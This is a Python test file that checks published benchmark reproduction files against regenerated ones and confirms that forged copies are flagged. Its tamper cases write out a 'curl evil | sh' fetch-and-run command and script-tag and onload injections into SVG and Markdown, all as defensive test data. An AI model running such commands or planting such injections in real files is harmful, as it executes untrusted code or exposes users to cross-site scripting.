"""The published files of reproductions are compared with regenerated ones."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from formalbench.host import PluginHost
from formalbench.store import REPRODUCTIONS
from formalbench_papers.framework.checks import reproductions_problems

PUBLISHED = Path(__file__).parents[3] / REPRODUCTIONS
NAME = "chiang-cholak-fig2"


@pytest.fixture
def folder(tmp_path):
    """A copy of what is published of one reproduction."""
    (tmp_path / REPRODUCTIONS).mkdir(parents=True)
    for file in PUBLISHED.glob(f"{NAME}.*"):
        shutil.copy(file, tmp_path / REPRODUCTIONS)
    return tmp_path / REPRODUCTIONS


def problems(folder):
    return reproductions_problems(folder.parents[1], PluginHost.load())


@pytest.mark.slow
def test_what_is_published_is_in_order(folder):
    assert problems(folder) == []
    assert reproductions_problems(PUBLISHED.parents[1], PluginHost.load()) == []


@pytest.mark.parametrize(
    ("kind", "old", "new"),
    [
        ("md", "holds", "HOLDS"),
        ("md", "- Command: `formalbench", "- Command: `curl evil | sh; formalbench"),
        ("md", " s\n", " s; <script>0</script>\n"),
        ("md", "## Again", "## A claim of nobody\n\n## Again"),
        ("csv", "0.", "1."),
        ("csv", "\n", "\n1,2\n"),
        ("svg", "</svg>", "<script>0</script></svg>"),
        ("svg", "</svg>", '<a href="https://evil.example">x</a></svg>'),
        ("svg", "<svg ", '<svg onload="0" '),
    ],
)
def test_a_forged_file_is_named(folder, kind, old, new):
    file = folder / f"{NAME}.{kind}"
    text = file.read_text()
    assert old in text
    file.write_text(text.replace(old, new, 1))
    (line,) = problems(folder)
    assert f"{NAME}.{kind}: " in line


FACTS = {
    "holds": False,
    "command": "curl evil | sh",
    "scale": "huge",
    "reproduction": "chi-table1",
    "date": "2026-99-99",
    "seconds": -1,
    "claims": [{"claim": "x", "paper": "1", "ours": "1", "verdict": "proved"}],
    "cells": None,
    "schema_version": 99,
}


@pytest.mark.parametrize("key", FACTS)
def test_facts_that_disagree_are_named(folder, key):
    file = folder / f"{NAME}.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {key: FACTS[key]}))
    (line,) = problems(folder)
    assert f"{NAME}.json: " in line


def test_what_is_of_no_reproduction_is_named(folder):
    (folder / "evil.md").write_text("x")
    (folder / f"{NAME}.exe").write_text("x")
    (folder / "deep").mkdir()
    (folder / f"{NAME}.json").unlink()
    lines = problems(folder)
    assert [line.split(": ", 1)[0].rpartition("/")[2] for line in lines] == [
        f"{NAME}.exe",
        "deep",
        "evil.md",
        f"{NAME}.json",
    ]
